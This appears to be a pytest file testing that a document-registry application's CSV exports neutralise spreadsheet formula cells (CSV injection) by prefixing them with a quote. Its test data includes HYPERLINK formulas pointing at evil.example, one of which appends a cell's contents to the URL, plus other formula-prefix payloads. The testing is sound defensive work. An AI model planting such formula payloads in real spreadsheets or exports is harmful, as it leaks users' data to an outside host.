"""CSV exports never hand a spreadsheet a formula (OWASP CSV injection): a cell that
starts with = + - @, a tab or a carriage return is prefixed with a single quote, and
the registry import reads its own export back unchanged."""

from __future__ import annotations

import csv
import io

import pytest

from isodoc.csvio import read_rows, write_rows
from isodoc.textnorm import nfc
from tests.doc_helpers import BASE, create_from_template
from tests.test_quality import raise_outside_audit, team  # noqa: F401  (fixture)

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào\")", "+1+2", "-2+3", "@SUM(A1)",
           "\tTab", "\rCR"]


def cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("value", HOSTILE)
def test_write_rows_neutralises_formula_cells(value):
    [header, row] = cells(write_rows(["a", "b"], [[value, "Quy trình"]]))
    assert row == ["'" + value, "Quy trình"]


@pytest.mark.parametrize("value", [*HOSTILE, "'=x", "''", "'quoted'", "Sở Tư pháp", "", "1.5"])
def test_read_rows_reads_back_what_write_rows_wrote(value):
    """Back as written, cleaned like any text crossing the boundary (a carriage return
    is not kept)."""
    [(_, row)] = read_rows(write_rows(["code", "name"], [["x", value]]), ["code", "name"])
    assert row["name"] == nfc(value)


def test_document_register_export_neutralises_a_formula_title(desk, staff):
    title = "=HYPERLINK(\"http://evil.example\",\"Quy trình\")"
    assert create_from_template(desk("author"), title=title).status_code == 302
    rows = cells(desk("author").get(f"{BASE}/export.csv").data)
    [row] = [r for r in rows[1:] if r[0] == "QT-05"]
    assert row[1] == "'" + title


def test_findings_report_export_neutralises_a_formula_finding(team, desk, in_db):  # noqa: F811
    observed = "=HYPERLINK(\"http://evil.example\",\"Trễ hạn\")"
    raise_outside_audit(desk, in_db, observed=observed)
    data = desk("approver").get("/reports/findings?agency=so-tu-phap&format=csv").data
    header, row = cells(data)[:2]
    assert row[header.index("noi_dung")] == "'" + observed
